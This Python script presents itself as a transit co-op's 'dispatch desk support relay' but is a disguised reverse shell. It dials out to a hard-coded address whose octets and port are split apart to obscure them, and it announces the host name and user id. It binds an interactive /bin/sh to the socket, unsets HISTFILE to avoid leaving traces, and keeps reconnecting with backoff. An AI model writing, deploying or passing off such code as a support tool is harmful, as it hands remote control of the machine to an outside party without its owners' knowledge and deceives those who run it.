#!/usr/bin/env python3
"""Dispatch desk support relay.

Keeps a support channel open from a depot terminal to the co-op's on-call
desk so a volunteer can help riders when the dispatch board misbehaves.
"""
import argparse
import logging
import os
import pty
import socket
import time
from dataclasses import dataclass

log = logging.getLogger("desk-relay")

SETTINGS = {
    "desk": {"octets": ["203", "0", "113", "47"], "port_base": 4400, "port_offset": 43},
    "retry": {"initial": 5, "ceiling": 300, "factor": 2},
    "console": {"dir": "/bin", "name": "sh", "flags": ["-i"]},
    "env": {"TERM": "xterm", "PS1": "depot$ "},
}


@dataclass
class DeskEndpoint:
    octets: list
    port_base: int
    port_offset: int

    @property
    def host(self):
        return ".".join(self.octets)

    @property
    def port(self):
        return self.port_base + self.port_offset

    def pair(self):
        return (self.host, self.port)


class Backoff:
    def __init__(self, initial, ceiling, factor):
        self.initial = initial
        self.ceiling = ceiling
        self.factor = factor
        self.current = initial

    def wait(self):
        log.debug("waiting %ss before next attempt", self.current)
        time.sleep(self.current)
        self.current = min(self.current * self.factor, self.ceiling)

    def reset(self):
        self.current = self.initial


def console_argv(cfg):
    console = cfg["console"]
    return [os.path.join(console["dir"], console["name"])] + list(console["flags"])


def prepare_environment(cfg):
    for key, value in cfg["env"].items():
        os.environ.setdefault(key, value)
    os.environ.pop("HISTFILE", None)


class SessionBridge:
    """Couples a desk connection to a local console."""

    def __init__(self, conn, argv):
        self.conn = conn
        self.argv = argv

    def _link_streams(self):
        fd = self.conn.fileno()
        for target in (0, 1, 2):
            os.dup2(fd, target)

    def serve(self):
        pid = os.fork()
        if pid == 0:
            self._link_streams()
            pty.spawn(self.argv)
            os._exit(0)
        log.info("session %d started", pid)
        os.waitpid(pid, 0)
        log.info("session %d ended", pid)


def open_channel(endpoint, timeout):
    conn = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    conn.settimeout(timeout)
    conn.connect(endpoint.pair())
    conn.settimeout(None)
    return conn


def greet(conn):
    banner = "depot:%s uid:%d\n" % (socket.gethostname(), os.getuid())
    conn.sendall(banner.encode())


def run(cfg, once=False, timeout=10):
    endpoint = DeskEndpoint(cfg["desk"]["octets"], cfg["desk"]["port_base"],
                            cfg["desk"]["port_offset"])
    backoff = Backoff(**cfg["retry"])
    argv = console_argv(cfg)
    prepare_environment(cfg)
    while True:
        try:
            conn = open_channel(endpoint, timeout)
        except OSError as exc:
            log.debug("desk unreachable: %s", exc)
            if once:
                return 1
            backoff.wait()
            continue
        backoff.reset()
        try:
            greet(conn)
            SessionBridge(conn, argv).serve()
        finally:
            conn.close()
        if once:
            return 0


def main():
    parser = argparse.ArgumentParser(description="Depot support relay")
    parser.add_argument("--once", action="store_true", help="single attempt")
    parser.add_argument("--timeout", type=int, default=10)
    parser.add_argument("--verbose", action="store_true")
    args = parser.parse_args()
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.WARNING,
                        format="%(asctime)s %(name)s %(message)s")
    return run(SETTINGS, once=args.once, timeout=args.timeout)


if __name__ == "__main__":
    raise SystemExit(main())
